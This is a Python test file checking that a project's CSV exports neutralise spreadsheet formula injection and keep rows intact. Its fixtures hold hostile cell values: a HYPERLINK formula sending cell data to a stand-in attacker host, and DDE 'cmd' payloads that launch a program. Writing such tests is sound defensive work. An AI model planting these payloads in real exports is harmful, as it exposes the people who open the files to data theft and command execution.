"""CSV exports against spreadsheet formula injection (OWASP « CSV injection ») and broken rows: every CSV Balises
writes, read back with Python's csv module, has one row per record, every row its columns, and no cell a
spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from conftest import MINI

from generator import export, hsds
from generator.model import Address, Phone, Sourced
from generator.pipeline import load_model

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")

HOSTILE = {
    "name": '=HYPERLINK("https://attaquant.example/?d="&A1;"Cliquez")',
    "name_nl": "+cmd|' /C calc'!A0",
    "alternate_name": "",
    "description": "-2+3+cmd|' /C calc'!A0",
    "phones": (Phone("+32 2 511 11 11", "=1+1", None, "https://example.org/", "2026-12-04"),),
    "email": Sourced("@SUM(1+1)*cmd|' /C calc'!A0", "https://example.org/", "2026-12-04"),
    "website": "＝1+1",
    "area_communes": ("\t=1+1", "\r=2+2"),
}
STREET = "@rue\rdu Midi\r\n1;2"  # a bare CR, a CRLF and the separator inside one value
CITY = "\r\n=Jette"


@pytest.fixture(scope="module")
def guidance():
    loaded = load_model(MINI)
    assert loaded.guidance is not None
    return loaded.guidance


@pytest.fixture(scope="module")
def actors(guidance):
    """Every actor of `mini` with hostile values in its names, description, contacts, address and communes."""
    hostile = []
    for actor in export.select_actors(guidance):
        address = Address(STREET, "1000", CITY, confidential=False)
        hostile.append(dataclasses.replace(actor, **HOSTILE, address=address))
    return tuple(hostile)


def read_back(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=delimiter))


def assert_inert(rows: list[list[str]], records: int) -> None:
    header, *body = rows
    assert len(body) == records
    assert all(len(row) == len(header) for row in body)
    assert [cell for row in body for cell in row if cell.startswith(FORMULA_STARTS)] == []


def test_actors_csv_cells_are_neutralised_and_rows_intact(guidance, actors):
    rows = read_back(export.to_csv(actors, guidance), ";")
    assert_inert(rows, len(actors))
    header, first = rows[0], rows[1]
    cell = dict(zip(header, first, strict=True))
    assert cell["Nom"] == "'" + HOSTILE["name"]  # kept, behind the apostrophe spreadsheets show as text
    assert cell["Téléphone"] == "'+32 2 511 11 11 (=1+1)"
    assert cell["Site web"] == "'＝1+1"
    assert cell["Adresse"] == "'@rue\ndu Midi\n1;2"  # line breaks kept, as LF, inside a quoted cell
    assert cell["Commune"] == "'\n=Jette"
    assert cell["Zone desservie"] == "'\t=1+1, \r=2+2".replace("\r", "\n")


def test_hsds_csv_cells_are_neutralised_and_rows_intact(guidance, actors):
    files = hsds.package(actors, guidance, "Test")
    named = [a for a in actors if not a.generic]
    expected = {
        "organizations.csv": len(named),
        "services.csv": len(named),
        "phones.csv": len(named),
        "addresses.csv": len(named),
        "locations.csv": len(named),
    }
    for path, text in files.items():
        if not path.endswith(".csv"):
            continue
        rows = read_back(text, ",")
        assert_inert(rows, expected.get(path, len(rows) - 1))
    organization = dict(zip(*read_back(files["organizations.csv"], ",")[:2], strict=True))
    assert organization["name"] == "'" + HOSTILE["name"]
    assert organization["email"] == "'" + HOSTILE["email"].value
    address = dict(zip(*read_back(files["addresses.csv"], ",")[:2], strict=True))
    assert address["address_1"] == "'@rue\ndu Midi\n1;2"


def test_plain_values_are_left_as_they_are():
    for value in ("Aquarelle", "", "1090", "Maison « Test » <Jette> & Cie", "info@example.org"):
        assert export.spreadsheet_cell(value) == value
    assert export.spreadsheet_cell(12) == 12  # a number is no formula
